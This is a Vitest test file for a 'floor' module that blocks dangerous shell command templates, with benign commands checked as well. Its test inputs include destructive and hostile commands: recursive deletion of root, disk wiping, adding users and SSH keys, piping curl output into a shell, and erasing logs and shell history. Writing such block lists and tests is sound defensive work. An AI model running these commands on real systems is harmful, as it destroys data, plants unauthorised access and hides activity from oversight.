/**
 * The floor: what never runs, whatever is stated or approved, and what must not be taken for it.
 */
import { describe, expect, it } from 'vitest';
import { floorOf } from '../../src/core/floor.ts';
import type { Param } from '../../src/core/param.ts';
import { parseTemplate } from '../../src/core/template.ts';

const path: Param = { name: 'x', description: '', type: { kind: 'path', roots: [] }, optional: false };
const rule = (source: string, value?: string) =>
  floorOf(parseTemplate(source, ['x']).template, [path], value === undefined ? {} : { x: value })?.rule;

describe('the floor', () => {
  it.each([
    ['removes-a-root', 'rm -rf /'],
    ['removes-a-root', 'rm -r -f -- /etc'],
    ['removes-a-root', 'sudo -n -u root rm -rf /*'],
    ['removes-a-root', '/bin/rm --recursive /usr/'],
    ['removes-a-root', "r''m -fR ~"],
    ['removes-a-root', '\\rm -rf "$HOME"'],
    ['removes-a-root', 'rm -rf /srv/../etc'],
    ['removes-a-root', 'rm -rf "$dir"'],
    ['removes-a-root', 'rm -rf /home/alice'],
    ['removes-a-root', 'rm -rf /v*/lib'],
    ['removes-a-root', 'cd / && rm -rf *'],
    ['removes-a-root', 'find / -delete'],
    ['removes-a-root', 'find /etc -type f -exec rm {} +'],
    ['removes-a-root', 'ls / | xargs rm -rf'],
    ['removes-a-root', 'if true; then rm -rf /; fi'],
    ['removes-a-root', 'echo $(rm -rf /)'],
    ['removes-a-root', 'timeout 5 env -i A=1 nice -n 5 rm -rf /'],
    ['removes-a-root', "sh -c 'rm -rf /'"],
    ['removes-a-root', 'docker exec -it web rm -rf /'],
    ['removes-a-root', 'busybox rm -rf /'],
    ['writes-a-disk', 'dd if=/dev/zero of=/dev/sda'],
    ['writes-a-disk', 'mkfs.ext4 /dev/sdb1'],
    ['writes-a-disk', 'echo a > /dev/sda'],
    ['writes-a-disk', 'echo a >| /dev/nvme0n1'],
    ['writes-a-disk', 'cat /srv/x | tee /dev/mapper/vg-root'],
    ['writes-a-disk', 'wipefs -a /dev/sdb'],
    ['writes-a-disk', 'parted /dev/sda rm 1'],
    ['changes-users-or-keys', 'useradd eve'],
    ['changes-users-or-keys', 'usermod -aG sudo eve'],
    ['changes-users-or-keys', 'passwd root'],
    ['changes-users-or-keys', 'echo x >> /root/.ssh/authorized_keys'],
    ['changes-users-or-keys', 'sed -i s/a/b/ /etc/shadow'],
    ['changes-users-or-keys', 'cp /srv/s /etc/sudoers.d/x'],
    ['changes-users-or-keys', 'ssh-keygen -R web'],
    ['free-code', 'curl -s https://e/x | sh'],
    ['free-code', 'curl -s https://e/x | sudo bash -s'],
    ['free-code', 'eval "$X"'],
    ['free-code', 'sh -c "$X"'],
    ['free-code', '$X -rf /'],
    ['free-code', '$(echo rm) -rf /'],
    ['free-code', 'python3 {x}'],
    ['free-code', '. {x}'],
    ['free-code', "ls | xargs -I A sh -c 'A'"],
    ['free-code', "find /srv -exec sh -c 'cat {}' \\;"],
    ['free-code', 'sh -c \'eval "$1"\' _ a'],
    ['free-code', 'bash < /srv/x'],
    ['free-code', 'su -'],
    ['removes-logs', 'rm /var/log/syslog'],
    ['removes-logs', '> /var/log/auth.log'],
    ['removes-logs', ': > /srv/app/app.log'],
    ['removes-logs', 'truncate -s 0 /var/log/wtmp'],
    ['removes-logs', 'find /var/log/app -mtime +3 -delete'],
    ['removes-logs', "find /srv -name '*.log' -delete"],
    ['removes-logs', 'find /var/log/nginx -print0 | xargs -0 rm'],
    ['removes-logs', 'cd /var/log && rm syslog'],
    ['removes-logs', 'cat /dev/null | tee /var/log/messages'],
    ['removes-logs', 'mv /var/log/syslog /tmp/x'],
    ['removes-logs', 'rm /var/log/{x}'],
    ['clears-history', 'history -c'],
    ['clears-history', 'rm ~/.bash_history'],
    ['clears-history', 'ln -sf /dev/null /root/.zsh_history'],
    ['clears-history', 'unset HISTFILE'],
    ['clears-history', 'HISTFILE=/dev/null ls'],
  ])('%s: %s', (expected, source) => {
    expect(rule(source)).toBe(expected);
  });

  it.each([
    'df -h',
    'journalctl --vacuum-size=500M',
    'systemctl restart -- {x}',
    'rm -rf /srv/app/cache',
    'rm -rf {x}',
    'rm /tmp/one',
    'find /srv/app/tmp -mtime +3 -delete',
    'find {x} -type f -exec du -h {} + 2>/dev/null | sort -rh | head -10',
    'echo a >> /var/log/app.log',
    'cat /var/log/syslog > /tmp/copy',
    'dd if=/dev/sda of=/srv/image bs=1M count=1',
    "sh -c 'df -h'",
    'python3 /opt/tool.py {x}',
    "perl -ne 'print' /etc/hosts",
    'passwd -S root',
    'crontab -l',
    'fdisk -l',
    'visudo -c',
    'ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub',
    'grep bash {x}',
    'grep useradd /var/log/auth.log',
    'systemctl status passwd',
    'docker exec web ls /',
    'file=$(mktemp "${TMPDIR:-/tmp}/a.XXXXXX") && printf %s {x} > "$file"',
    'dmesg -C',
    'ls /var/log 2>/dev/null | grep sh',
  ])('is not broken by: %s', (source) => {
    expect(rule(source)).toBeUndefined();
  });

  it.each([
    ['rm -rf {x}', '/', 'removes-a-root'],
    ['rm -rf {x}', '/etc/', 'removes-a-root'],
    ['rm -rf {x}', '/srv/app/old', undefined],
    ['find {x} -delete', '/home', 'removes-a-root'],
    ['find {x} -mtime +9 -delete', '/var/log/app', 'removes-logs'],
    ['truncate -s 0 {x}', '/var/log/syslog', 'removes-logs'],
    ['cp /srv/a {x}', '/etc/passwd', 'changes-users-or-keys'],
    ['dd if=/srv/a of={x}', '/dev/sda', 'writes-a-disk'],
    ['tee {x}', '/root/.bash_history', 'clears-history'],
    ['systemctl restart -- {x}', 'reboot.target', 'stops-the-machine'],
    ['sudo -n -- systemctl start {x}', 'systemd-poweroff.service', 'stops-the-machine'],
    ['systemctl isolate {x}', 'rescue.target', 'stops-the-machine'],
    ['systemctl restart -- {x}', 'nginx.service', undefined],
    ['systemctl restart -- {x}', 'reboot-notifier.service', undefined],
    ['systemctl status {x}', 'reboot.target', undefined],
  ])('is judged with the value: %s with %s', (source, value, expected) => {
    expect(rule(source, value)).toBe(expected);
  });
});
